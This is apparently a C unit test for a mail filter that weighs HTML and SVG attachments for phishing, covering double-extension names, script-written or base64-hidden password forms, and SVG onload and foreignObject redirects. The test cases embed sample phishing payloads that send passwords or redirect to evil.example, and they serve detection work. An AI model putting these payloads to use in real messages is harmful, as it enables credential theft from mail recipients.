/* SPDX-License-Identifier: BSD-2-Clause */
/* test_content_page - attached pages weigh by what they pretend, ask and hide. */
#include "config.h"

#include <string.h>

#include "policy/base/text.h"
#include "policy/mail/content_page.h"
#include "tests/unit/mails.h"

/* clang-format off */
#define MIXED \
	"To: jane@corp.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nhi\n--b\n"
/* clang-format on */
#define PAGE(name_) "Content-Type: application/octet-stream; name=" name_ "\n\n"

static const char *
told(struct arena *arena, const struct mails *mail)
{
	struct text text = TEXT_IN(arena);
	size_t i;

	for (i = 0; i < mail->findings.count; i++)
		text_printf(&text, "%s %d; ", finding_info(mail->findings.items[i].kind)->name,
			    mail->findings.items[i].weight);
	for (i = 0; i < mail->message.link_count; i++)
		text_printf(&text, "%d:%s%s ", (int)mail->message.links[i].kind,
			    mail->message.links[i].url.host.ascii,
			    mail->message.links[i].password ? "!" : "");
	return text_string(&text);
}

static void
attached_pages_weigh_by_what_they_hide(void **state)
{
	static const struct {
		const char *mail, *expected, *why;
	} cases[] = {
		{MIXED PAGE("a.htm") "<html>x\n--b--\n", "html-attachment 80; ", "a page"},
		{MIXED PAGE("invoice.pdf.html") "x\n--b--\n", "html-attachment 160; ",
		 "the name of a document"},
		{MIXED "Content-Type: application/octet-stream; name*0=\"invoice.\"; "
		       "name*1=\"pdf.shtml\"\n\nx\n--b--\n",
		 "html-attachment 160; ", "a name in two pieces (RFC 2231)"},
		{MIXED "Content-Type: application/pdf; name=a.pdf\nContent-Disposition: "
		       "attachment; filename=a.pdf.xhtml\n\nx\n--b--\n",
		 "html-attachment 160; ", "two names"},
		{MIXED PAGE("a.htm") "<input value=Jane@corp.example>\n--b--\n",
		 "html-attachment 120; ", "prepared for the recipient"},
		{MIXED PAGE("a.htm") "<form action=https://evil.example/p><input "
				     "type=password></form>\n--b--\n",
		 "password-form 300; html-attachment 80; 1:evil.example! ", "a form"},
		{MIXED PAGE("a.htm") "<script>document.write(unescape('%3Cform%20action%3D"
				     "https%3A//evil.example/%3E%3Cinput%20type%3Dpassword%3E'))"
				     "</script>\n--b--\n",
		 "password-form 300; html-attachment 80; script-attachment 300; 1:evil.example! ",
		 "a form that script writes"},
		{MIXED PAGE("a.htm") "<script>location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')"
				     "</script>\n--b--\n",
		 "html-attachment 80; script-attachment 300; 2:evil.example ",
		 "an address that script decodes"},
		{MIXED PAGE("a.htm") "<script>x=new Blob([atob(y)])</script>\n--b--\n",
		 "html-attachment 80; script-attachment 250; ", "what cannot be decoded"},
		{MIXED PAGE("a.htm") "<iframe src='data:text/html;base64,PGZvcm0gYWN0aW9uPWh0dHBz"
				     "Oi8vZXZpbC5leGFtcGxlLz48aW5wdXQgdHlwZT1wYXNzd29yZD4='>"
				     "\n--b--\n",
		 "password-form 300; html-attachment 80; 3: 1:evil.example! ",
		 "a page inside of an address"},
		{MIXED "Content-Type: image/svg+xml; name=logo.svg\n\n<svg><path d='M0 0h9'/>"
		       "<linearGradient id=a xlink:href='#b'/></svg>\n--b--\n",
		 "", "a logo"},
		{MIXED "Content-Type: image/svg+xml; name=a.svg\n\n<svg onload='location=\"https:"
		       "//evil.example/\"'></svg>\n--b--\n",
		 "svg-active 250; 2:evil.example ", "a handler"},
		{MIXED "Content-Type: image/svg+xml; name=a.svg\n\n<svg><foreignObject><form "
		       "action=https://evil.example/><input type=password></form>"
		       "</foreignObject></svg>\n--b--\n",
		 "password-form 300; svg-active 250; 1:evil.example! ", "foreign content"},
		{MIXED "Content-Type: image/svg+xml; name=a.svg\n\n<!DOCTYPE svg [<!ENTITY u "
		       "'https://evil.example/'>]><svg><a href='&u;x'>y</a></svg>\n--b--\n",
		 "5:evil.example ", "an entity of its own"},
		{MIXED "Content-Type: image/svg+xml; name=a.svg\n\n<svg xmlns:y='http://www.w3."
		       "org/1999/xlink'><a y:href='https://evil.example/'>x</a></svg>\n--b--\n",
		 "5:evil.example ", "a link under another prefix"},
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct mails mail;

		mails_read(&mail, *state, cases[i].mail, strlen(cases[i].mail));
		if (strcmp(told(*state, &mail), cases[i].expected) != 0)
			fail_msg("%s: %s", cases[i].why, told(*state, &mail));
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(attached_pages_weigh_by_what_they_hide, mails_begin,
						mails_end),
	};

	return cmocka_run_group_tests(tests, mails_set_up, NULL);
}
